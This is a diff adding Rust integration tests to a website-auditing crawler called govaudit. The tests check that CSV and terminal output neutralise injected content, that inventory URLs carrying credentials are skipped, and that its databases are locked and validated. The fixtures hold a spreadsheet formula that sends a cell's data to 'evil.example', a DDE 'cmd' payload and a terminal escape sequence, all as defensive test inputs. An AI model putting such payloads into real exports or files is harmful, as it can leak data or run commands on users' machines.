@@ -281,6 +281,14 @@ fn the_crawl_stays_out_of_the_network_it_runs_in() {
         !robots.iter().any(|r| r.contains("AccessKeyId")),
         "{robots:?}"
     );
+    // The refusals are stored with why.
+    let refused = column(&store, "SELECT kind || ' ' || message FROM fetch_errors");
+    assert!(
+        refused
+            .iter()
+            .any(|r| r.starts_with("offline") && r.contains("neither a --map target")),
+        "{refused:?}"
+    );
 
     // Bad flags are refused up front.
     for (flag, value) in [
@@ -308,4 +316,197 @@ fn the_crawl_stays_out_of_the_network_it_runs_in() {
             String::from_utf8_lossy(&out.stderr)
         );
     }
+}
+
+/// What a crawled page or an inventory cell says never runs in a spreadsheet or a terminal,
+/// and credentials in an inventory address are refused, never sent or printed.
+#[test]
+fn crawled_text_is_inert_in_csv_and_terminals_and_credentials_are_refused() {
+    let env = Env::new();
+    let title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")\u{1b}]0;pwned\u{7}";
+    let page = format!(
+        "<!doctype html><html lang=\"en\"><head><title>{title}</title></head><body><main><h1>Home</h1>\
+         <p>Call 1-800-555-0100 for help with your benefits today.</p></main></body></html>"
+    );
+    let site = env.serve_script(script(vec![("/", Reply::Html(page))]));
+    let inv = env.write(
+        "agency.csv",
+        "url,name,agency\nhttps://www.agency.gov/,@SUM(1+1),+cmd|' /C calc'!A0\n",
+    );
+    let db = env.db();
+    let db_arg = db.display().to_string();
+    let map = format!("https://www.agency.gov={}", site.origin());
+    govaudit_ok(&[
+        "crawl",
+        inv.to_str().expect("utf8"),
+        "--db",
+        &db_arg,
+        "--offline",
+        "--delay-ms",
+        "0",
+        "--map",
+        &map,
+    ]);
+    govaudit_ok(&["audit", "--db", &db_arg]);
+    let out = env.path("report");
+    let out_arg = out.display().to_string();
+    govaudit_ok(&[
+        "report", "--db", &db_arg, "--out", &out_arg, "--format", "csv",
+    ]);
+    for file in ["pages.csv", "sites.csv", "survey.csv", "findings.csv"] {
+        let text = std::fs::read_to_string(out.join(file)).expect(file);
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("csv").iter() {
+                assert!(
+                    !(cell.starts_with(['=', '+', '@'])
+                        || (cell.starts_with('-') && cell.parse::<f64>().is_err())),
+                    "{file}: a formula cell {cell:?}"
+                );
+            }
+        }
+    }
+    let pages_csv = std::fs::read_to_string(out.join("pages.csv")).expect("pages.csv");
+    assert!(pages_csv.contains("'=HYPERLINK"), "{pages_csv}");
+    let table = govaudit_ok(&["pages", "--db", &db_arg, "--format", "table"]);
+    assert!(
+        !table.stdout.contains(&0x1b),
+        "an escape reached the terminal"
+    );
+
+    // Credentials: the row is skipped with a warning that does not repeat them, and nothing is
+    // requested with them.
+    let creds = env.write(
+        "creds.csv",
+        "url,name\nhttps://user:s3cret@www.agency.gov/,Agency\nhttps://www.other.gov/,Other\n",
+    );
+    let other = env.serve_script(script(vec![("/", Reply::Html(HOME.into()))]));
+    let before = site.requests().len();
+    let other_map = format!("https://www.other.gov={}", other.origin());
+    let cdb = env.path("c.db").display().to_string();
+    let out = govaudit(&[
+        "crawl",
+        creds.to_str().expect("utf8"),
+        "--db",
+        &cdb,
+        "--offline",
+        "--delay-ms",
+        "0",
+        "--map",
+        &other_map,
+        "--map",
+        &map,
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(said.contains("user name or password"), "{said}");
+    assert_eq!(
+        site.requests().len(),
+        before,
+        "the row with credentials was requested"
+    );
+    let sites = govaudit_ok(&["sites", "--db", &cdb, "--format", "json"]);
+    let listed = String::from_utf8_lossy(&sites.stdout).to_string();
+    assert!(
+        !listed.contains("s3cret") && !listed.contains("www.agency.gov"),
+        "{listed}"
+    );
+    assert!(!said.contains("s3cret"), "{said}");
+}
+
+/// Databases: listing commands only read (another program's file is refused and left as it
+/// was; a damaged one is called damaged), and two writers never share one database.
+#[test]
+fn databases_are_read_only_for_listings_refused_when_foreign_and_locked_for_writers() {
+    let env = Env::new();
+    let foreign = env.path("other-app.sqlite");
+    {
+        let conn = rusqlite::Connection::open(&foreign).expect("open");
+        conn.execute_batch("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT); INSERT INTO notes (body) VALUES ('x');")
+            .expect("create");
+    }
+    let before = std::fs::read(&foreign).expect("read");
+    for cmd in ["findings", "pages", "sites", "audit"] {
+        let out = govaudit(&[cmd, "--db", foreign.to_str().expect("utf8")]);
+        assert_eq!(
+            out.status.code(),
+            Some(2),
+            "{cmd}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(String::from_utf8_lossy(&out.stderr).contains("not a govaudit database"));
+    }
+    assert!(
+        std::fs::read(&foreign).expect("read") == before,
+        "the other program's file was changed"
+    );
+    assert!(!env.path("other-app.sqlite-wal").exists());
+
+    let damaged = env.write("damaged.db", vec![0x42u8; 8192]);
+    let out = govaudit(&["pages", "--db", damaged.to_str().expect("utf8")]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("damaged"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+
+    // A real database, crawled; then a second writer while the first holds it.
+    let site = env.serve_script(script(vec![("/", Reply::Html(HOME.into()))]));
+    let inv = env.write("agency.csv", "url,name\nhttps://www.agency.gov/,Agency\n");
+    let db = env.db();
+    let db_arg = db.display().to_string();
+    let map = format!("https://www.agency.gov={}", site.origin());
+    govaudit_ok(&[
+        "crawl",
+        inv.to_str().expect("utf8"),
+        "--db",
+        &db_arg,
+        "--offline",
+        "--delay-ms",
+        "0",
+        "--map",
+        &map,
+    ]);
+    let lock = std::fs::OpenOptions::new()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(format!("{db_arg}.lock"))
+        .expect("lock file");
+    lock.lock().expect("lock");
+    for args in [
+        vec!["audit", "--db", &db_arg],
+        vec![
+            "crawl",
+            inv.to_str().expect("utf8"),
+            "--db",
+            &db_arg,
+            "--offline",
+            "--map",
+            &map,
+        ],
+    ] {
+        let out = govaudit(&args);
+        assert!(!out.status.success());
+        assert!(
+            String::from_utf8_lossy(&out.stderr).contains("another govaudit"),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    // Listing needs no lock.
+    govaudit_ok(&["pages", "--db", &db_arg]);
+    lock.unlock().expect("unlock");
+    govaudit_ok(&["audit", "--db", &db_arg]);
 }
